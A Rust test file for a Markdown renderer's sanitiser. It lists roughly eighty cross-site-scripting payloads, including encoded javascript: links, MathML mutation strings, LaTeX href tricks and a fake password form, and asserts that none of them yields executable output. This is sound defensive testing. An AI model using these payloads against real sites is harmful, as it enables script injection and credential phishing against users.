//! What attackers write. Sources: OWASP's Cross-Site Scripting Prevention cheat sheets, the lists of payloads of
//! Markdown renderers, and faults of sanitisers with `MathML` (CVE-2020-26870 of
//! `DOMPurify`, RUSTSEC-2021-0074 of ammonia).

use super::*;

/// Texts, none of which may have an effect; `check` knows what an effect is.
pub(crate) const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://example.com/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD4=\"></object><embed src=x>",
    "<form action=https://example.com><input name=password><button>Sign in</button></form>",
    "<style>@import 'https://example.com/x.css'; * { background: url(https://example.com) }</style>",
    "<p style=\"position:fixed;inset:0;background:url(https://example.com)\">x</p>",
    "<base href=https://example.com><meta http-equiv=refresh content=\"0;url=https://example.com\">",
    "<link rel=stylesheet href=https://example.com/x.css>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<math href=\"javascript:alert(1)\"><maction actiontype=\"statusline#https://example.com\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template><slot name=x>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "</div></div></body><script>alert(1)</script>",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](<java\tscript:alert(1)>)",
    "[x](java&#x09;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.com/1)",
    "[x](//example.com)",
    "[x](\\\\example.com)",
    "[x](https:javascript:alert(1))",
    "[x](https://example.com/\"onmouseover=\"alert(1))",
    "[x](https://example.com 'a\" onmouseover=\"alert(1)')",
    "[x](https://user:password@example.com)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]\n\n[x]: <javascript:alert(1)> \"y\"",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x\" onerror=\"alert(1)](media:med_01J9ZK5W6V4QX0N8R3T7B2M1CD)",
    "![x](media:med_01J9ZK5W6V4QX0N8R3T7B2M1CD \"y\\\" onerror=\\\"alert(1)\")",
    "![x](media:med_01J9ZK5W6V4QX0N8R3T7B2M1CD\"onerror=alert(1))",
    "![x](media:javascript:alert(1))",
    "![x](media:../../v1/me)",
    "![x](media:media:med_01J9ZK5W6V4QX0N8R3T7B2M1CD)",
    "[![x](media:med_01J9ZK5W6V4QX0N8R3T7B2M1CD)](javascript:alert(1))",
    "[![x](https://example.com/a.png)](https://example.com)",
    "[audio: <img src=x onerror=alert(1)>](media:med_01J9ZK5W6V4QX0N8R3T7B2M1CD)",
    "[audio: ![x](media:med_01J9ZK5W6V4QX0N8R3T7B2M1CD)](media:med_01J9ZK5W6V4QX0N8R3T7B2M1CD)",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x\" onclick=\"alert(1)\nx\n```",
    "# x {#a onclick=alert(1)}",
    "# \"><img src=x onerror=alert(1)>",
    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "|<script>alert(1)</script>|\n|-|\n|[x](javascript:alert(1))|",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\text{\\href{javascript:alert(1)}{x}}$ $\\url{javascript:alert(1)}$",
    "$\\color{red;position:fixed}{x}$ $\\textcolor{\"onclick=alert(1)}{x}$",
    "$\\class{x\" onclick=\"alert(1)}{y}$ $\\style{position:fixed}{x}$ $\\includegraphics{https://example.com/x.png}$",
    "$</math><script>alert(1)</script>$",
    "$\\label{\"><script>alert(1)</script>}\\eqref{x}$",
    "$$\\begin{equation}x\\label{a\"onclick=alert(1)}\\end{equation} \\eqref{a}$$",
    "$\\unicode{x3c}script\\unicode{x3e}$",
];

#[test]
fn nothing_that_attackers_write_has_an_effect() {
    for markdown in HOSTILE {
        let html = to_html(markdown);
        assert!(!html.contains("<script") && !html.contains("<iframe") && !html.contains("<svg"), "{markdown}: {html}");
        // The same inside of other elements, and twice.
        for around in ["> ", "- ", "# ", "*", "[a](https://example.com) ", "| a |\n|-|\n| "] {
            to_html(&format!("{around}{markdown}"));
        }
        to_html(&format!("{markdown}\n\n{markdown}"));
    }
}

#[test]
fn raw_html_is_shown_as_it_is_written() {
    assert_eq!(to_html("a <b>c</b>"), "<p>a &lt;b&gt;c&lt;/b&gt;</p>\n");
    assert_eq!(to_html("<div>\nx\n</div>"), "<p>&lt;div&gt;\nx\n&lt;/div&gt;</p>\n");
}

#[test]
fn the_list_holds_whatever_is_written() {
    for (html, clean) in [
        ("<a href=\"javascript:alert(1)\">x</a>", "<a rel=\"noopener noreferrer nofollow\">x</a>"),
        ("<a href=\"/v1/me\">x</a>", "<a rel=\"noopener noreferrer nofollow\">x</a>"),
        ("<img src=x data-media=\"x\" alt=\"y\">", "<img alt=\"y\">"),
        ("<p class=\"modal\" id=\"root\" onclick=\"x\">y</p>", "<p>y</p>"),
        ("<span class=\"audio\" style=\"color:red\">y</span>", "<span class=\"audio\">y</span>"),
        ("<math><mi href=\"https://example.com\">x</mi></math>", "<math><mi>x</mi></math>"),
        (
            "<math><mrow style=\"position:fixed;color:red\">x</mrow></math>",
            "<math><mrow style=\"color:red\">x</mrow></math>",
        ),
        ("<input type=\"password\">", "<input>"),
        ("<script>alert(1)</script><style>x</style><svg><a>y</a></svg>", ""),
    ] {
        let (cleaned, _) = sanitize::clean(html);
        assert!(cleaned == clean || (clean.is_empty() && !cleaned.contains("<s")), "{html}: {cleaned}");
    }
}
